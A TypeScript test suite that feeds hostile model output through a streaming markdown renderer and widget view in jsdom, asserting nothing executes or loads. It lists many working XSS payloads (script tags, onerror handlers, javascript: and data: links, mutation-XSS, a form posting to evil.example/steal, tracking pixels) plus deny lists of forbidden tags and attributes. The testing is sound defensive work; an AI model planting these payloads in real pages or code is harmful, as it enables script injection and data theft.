// Hostile model output in the front end (jsdom, scripts enabled): every payload class of the
// issue, streamed whole, split in two at every position and one character at a time, through
// the incremental markdown renderer and through the whole StreamView. After every step the DOM
// holds nothing that runs, loads or restyles, no handler ever fires (a window flag the payloads
// would set stays unset), and the words around the payload stay readable.
// The same payloads run in a real browser in tests/browser/test_hostile_output.py.
// Guarantees listed in docs/guarantees.md.

import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { JSDOM } from "jsdom";
import { BlockCache, MarkdownView, markdownToFragment } from "../src/markdown";
import widget from "../src/stream_view";
import type { Model, ToolCall, WidgetModel } from "../src/model";

// Scripts on, so an inline handler that slipped through would really run and set the flag.
const dom = new JSDOM("<!doctype html><html><head></head><body></body></html>", {
  runScripts: "dangerously",
  url: "http://127.0.0.1:8888/lab",
});
const win = dom.window as unknown as Window & { __pwned?: unknown };
const doc = win.document;
let frames: Array<() => void> = [];
win.requestAnimationFrame = (cb: FrameRequestCallback) => frames.push(() => cb(0));
win.cancelAnimationFrame = () => {};
const flush = () => {
  const pending = frames;
  frames = [];
  for (const run of pending) run();
};

const SET = "window.__pwned=1";
/** One entry per payload class of the issue, with variants. Each sits between two words. */
const PAYLOADS: Record<string, string[]> = {
  script: [
    `<script>${SET}</script>`,
    `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
    `<scr<script>ipt>${SET}</script>`,
    "```\n</code></pre><script>" + SET + "</script>\n```",
  ],
  "img-onerror": [
    `<img src=x onerror="${SET}">`,
    `<img src="x" onerror=${SET} alt="a">`,
    `<img/src/onerror=${SET}>`,
    `<details open ontoggle="${SET}">d</details>`,
    `<body onload="${SET}">`,
    `<a href="#" onclick="${SET}" onmouseover="${SET}">hover</a>`,
  ],
  "javascript-link": [
    `[click](javascript:${SET})`,
    `[click](JaVaScRiPt:${SET})`,
    `[click](<javascript:${SET}>)`,
    `<javascript:${SET}>`,
    `[click][r]\n\n[r]: javascript:${SET}`,
    `<a href="java&#x09;script:${SET}">x</a>`,
    `<a href="&#106;avascript:${SET}">x</a>`,
    `<a href="  javascript:${SET}">x</a>`,
    `<a href="vbscript:msgbox(1)">x</a>`,
  ],
  "data-link": [
    "[f](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    `<a href="data:text/html,<script>${SET}</script>">x</a>`,
    "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  ],
  "iframe-srcdoc": [
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    `<iframe src="https://evil.example/"></iframe>`,
    `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">`,
  ],
  "svg-script": [
    `<svg><script>${SET}</script></svg>`,
    `<svg onload="${SET}"><circle r="5"/></svg>`,
    `<svg><a xlink:href="javascript:${SET}"><text>t</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${SET}"></style></mglyph></table></mtext></math>`,
  ],
  style: [
    "<style>body { display: none !important } .jp-Notebook { background: red }</style>",
    `<p style="position:fixed;inset:0;background:red;z-index:99999">cover</p>`,
    `<link rel="stylesheet" href="https://evil.example/x.css">`,
    `<div style="background:url(https://evil.example/bg.png)">bg</div>`,
  ],
  form: [
    `<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>`,
    `<button formaction="https://evil.example/">b</button>`,
    `<input type="image" src="https://evil.example/i.png">`,
    `<textarea>t</textarea><select><option>o</option></select>`,
  ],
  "external-image": [
    "![pixel](https://evil.example/pixel.png)",
    "![pixel](//evil.example/pixel.png)",
    `<img src="https://evil.example/i.png">`,
    `<img srcset="https://evil.example/1.png 1x">`,
    `<picture><source srcset="https://evil.example/s.png"><img></picture>`,
    `<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>`,
    `<audio src="https://evil.example/a.mp3" autoplay></audio>`,
    `<table background="https://evil.example/t.png"><tr><td>t</td></tr></table>`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    `<base href="https://evil.example/">`,
    `<link rel="prefetch" href="https://evil.example/p">`,
  ],
};

const FORBIDDEN_TAGS = new Set([
  "SCRIPT", "IFRAME", "FRAME", "OBJECT", "EMBED", "STYLE", "LINK", "META", "BASE", "FORM",
  "INPUT", "TEXTAREA", "SELECT", "OPTION", "VIDEO", "AUDIO", "SOURCE", "PICTURE", "SVG", "MATH",
  "TEMPLATE", "IMG", "IMAGE", "USE",
]);
/** Attributes that make the browser fetch something by themselves. */
const LOADING_ATTRS = new Set(["src", "srcset", "poster", "background", "data", "action",
  "formaction", "srcdoc", "xlink:href", "lowsrc", "dynsrc", "ping", "style"]);
const BAD_URL = /^\s*(?:javascript|vbscript|data):/i;

/** Everything the issue forbids, as a list of problems found under `root` (the view's own
 *  Copy button excepted: it is ours, created with createElement and a fixed label). */
function problems(root: Element): string[] {
  const found: string[] = [];
  for (const node of Array.from(root.querySelectorAll("*"))) {
    const name = node.nodeName.toUpperCase();
    if (FORBIDDEN_TAGS.has(name)) found.push(`<${name.toLowerCase()}>`);
    if (name === "BUTTON" && !node.classList.contains("sw-copy")) found.push("<button>");
    for (const attr of Array.from(node.attributes)) {
      const key = attr.name.toLowerCase();
      if (key.startsWith("on")) found.push(`${key}= on <${name.toLowerCase()}>`);
      if (LOADING_ATTRS.has(key)) found.push(`${key}= on <${name.toLowerCase()}>`);
      if ((key === "href" || key === "xlink:href") && BAD_URL.test(attr.value)) {
        found.push(`${key}="${attr.value.slice(0, 30)}"`);
      }
    }
  }
  return found;
}

/** Fire the events a handler could listen for, on every element. */
function poke(root: Element): void {
  for (const node of Array.from(root.querySelectorAll("*"))) {
    for (const type of ["error", "load", "toggle", "click", "mouseover", "focus", "animationstart"]) {
      node.dispatchEvent(new dom.window.Event(type, { bubbles: false }));
    }
  }
}

/** No forbidden element or attribute; with `fire`, also fire every event at every element
 *  and check that nothing ran. */
function assertSafe(root: Element, what: string, fire = false): void {
  assert.deepEqual(problems(root), [], what);
  if (fire) poke(root);
  assert.equal(win.__pwned, undefined, `${what}: a payload ran`);
}

const wrap = (payload: string) => `alpha ${payload} omega`;
const cases = Object.entries(PAYLOADS).flatMap(([kind, list]) =>
  list.map((payload, i) => ({ name: `${kind} #${i + 1}`, text: wrap(payload), first: i === 0 })),
);
// Every split position for the first payload of each class (jsdom renders cost milliseconds
// each); every variant is rendered whole. A two-piece split shows the renderer a prefix, then
// the whole text: feeding every prefix in turn covers the prefix of every split position.
const representatives = cases.filter((c) => c.first);

describe("hostile output: the incremental markdown renderer", () => {
  for (const { name, text } of representatives) {
    test(`${name}: every prefix (every split position), then the final render`, () => {
      const md = new MarkdownView(doc.createElement("div"));
      for (let k = 1; k <= text.length; k++) {
        md.update(text.slice(0, k), 0, { caret: true });
        assertSafe(md.el, `${name} prefix ${k}`);
      }
      md.update(text, 0, { final: true });
      assertSafe(md.el, `${name} final`, true);
    });
  }

  test("blocks cloned from the cache (a second view of the model) are as safe", () => {
    const cache = new BlockCache();
    const all = cases.map((c) => c.text).join("\n\n");
    const first = new MarkdownView(doc.createElement("div"), cache);
    first.update(all, 0, { caret: true });
    first.update(all, 0, { final: true });
    const second = new MarkdownView(doc.createElement("div"), cache);
    second.update(all, 0, { final: true });
    assert.ok(cache.hits > 0);
    assertSafe(second.el, "cloned blocks", true);
    assert.equal(second.el.innerHTML, first.el.innerHTML);
  });

  for (const { name, text } of cases) {
    test(`${name}: streamed in two pieces, then final; the words around it stay readable`, () => {
      const md = new MarkdownView(doc.createElement("div"));
      md.update(text.slice(0, text.length >> 1), 0, { caret: true });
      assertSafe(md.el, `${name} first half`);
      md.update(text, 0, { caret: true });
      assertSafe(md.el, `${name} streamed`, true);
      md.update(text, 0, { final: true });
      assertSafe(md.el, `${name} final`, true);
      const visible = md.el.textContent ?? "";
      assert.match(visible, /alpha/, "the words before the payload stay readable");
      assert.match(visible, /omega/, "the words after the payload stay readable");
    });
  }

  test("hostile markup in code is shown as text, literally", () => {
    const fragment = markdownToFragment("`<script>x</script>`\n\n```html\n<img src=x onerror=y>\n```", doc);
    const box = doc.createElement("div");
    box.append(fragment);
    assertSafe(box, "code", true);
    assert.match(box.textContent ?? "", /<script>x<\/script>/);
    assert.match(box.textContent ?? "", /<img src=x onerror=y>/);
  });
});

// -- the whole view --------------------------------------------------------------------------

type Callback = (...args: any[]) => void;

class FakeModel {
  attrs: Model = {
    stream_id: "s1",
    status: "streaming",
    text: "",
    reasoning: "",
    tool_calls: [],
    error: null,
    meta: {},
  };
  handlers = new Map<string, Set<Callback>>();
  set(values: Partial<Model>): void {
    Object.assign(this.attrs, values);
    for (const key of Object.keys(values)) this.emit(`change:${key}`);
  }
  custom(msg: unknown): void {
    this.emit("msg:custom", msg);
  }
  emit(event: string, ...args: unknown[]): void {
    for (const cb of [...(this.handlers.get(event) ?? [])]) cb(...args);
  }
  proxy(): WidgetModel<Model> {
    return {
      get: (key) => this.attrs[key],
      on: (event, cb) => {
        if (!this.handlers.has(event)) this.handlers.set(event, new Set());
        this.handlers.get(event)!.add(cb);
      },
      off: (event, cb) => {
        if (event && cb) this.handlers.get(event)?.delete(cb);
      },
      send: () => {},
    };
  }
}

function mountView(model: FakeModel): { el: HTMLElement; stop: () => void } {
  const w = widget();
  const stopInit = w.initialize({ model: model.proxy() });
  const el = doc.createElement("div");
  doc.body.append(el);
  const stopRender = w.render({ model: model.proxy(), el });
  return {
    el,
    stop() {
      stopRender();
      stopInit();
      el.remove();
    },
  };
}

const delta = (at: number, text: string, field = "text") => ({ kind: "delta", field, at, text });

describe("hostile output: the StreamView", () => {
  for (const { name, text, first } of cases) {
    const cuts = first ? Array.from({ length: Math.ceil(text.length / 8) }, (_, i) => i * 8) : [0];
    test(`${name}: ${first ? "deltas split at every 8th position" : "one delta"}, then final`, () => {
      for (const cut of cuts) {
        const model = new FakeModel();
        const view = mountView(model);
        const pieces = cut ? [text.slice(0, cut), text.slice(cut)] : [text];
        let at = 0;
        for (const piece of pieces) {
          model.custom(delta(at, piece));
          if (!cut) model.custom(delta(at, piece, "reasoning"));
          at += piece.length;
          flush();
          assertSafe(view.el, `${name} cut at ${cut}`);
        }
        if (cut === 0) {
          model.set({ status: "complete", text, reasoning: text });
          flush();
          assertSafe(view.el, `${name} final`, true);
          const shown = view.el.querySelector(".sw-text")!.textContent ?? "";
          assert.match(shown, /alpha/);
          assert.match(shown, /omega/);
        }
        view.stop();
      }
    });
  }

  test("hostile strings in tool calls, errors and model names are plain text", () => {
    const evil = `<img src=x onerror="${SET}"><script>${SET}</script>`;
    const call: ToolCall = {
      id: evil,
      name: evil,
      status: "error",
      args_text: evil,
      arguments: { [evil]: evil },
      result: evil,
      error: evil,
      started_at: 0,
      ended_at: 1,
    };
    const model = new FakeModel();
    const view = mountView(model);
    model.set({
      status: "error",
      tool_calls: [call],
      error: { kind: evil, message: evil },
      meta: { model: evil, provider: evil, finish_reason: evil },
    });
    flush();
    assertSafe(view.el, "tool card and error banner", true);
    assert.ok((view.el.textContent ?? "").includes(evil), "shown literally, as text");
    view.stop();
  });
});

describe("hostile output: raw-text tags and borrowed classes (docs/guarantees.md, 9-10)", () => {
  for (const tag of ["style", "script", "title", "textarea", "xmp"]) {
    test(`prose that names <${tag}> keeps the rest of the reply readable`, () => {
      const md = new MarkdownView(doc.createElement("div"));
      md.update(`Put it in a <${tag}> element.\n\nSecond paragraph stays.`, 0, { final: true });
      assertSafe(md.el, tag, true);
      assert.match(md.el.textContent ?? "", /Second paragraph stays\./);
      assert.match(md.el.textContent ?? "", new RegExp(`<${tag}>`), "shown as text");
    });
  }

  test("class names of the page's own CSS are not kept", () => {
    const md = new MarkdownView(doc.createElement("div"));
    md.update(wrap('<div class="jp-Dialog lm-Widget">fake dialog</div>'), 0, { final: true });
    const classes = Array.from(md.el.querySelectorAll("[class]")).flatMap((n) => Array.from(n.classList));
    assert.deepEqual(classes.filter((c) => !/^(sw-|language-)/.test(c)), []);
  });
});
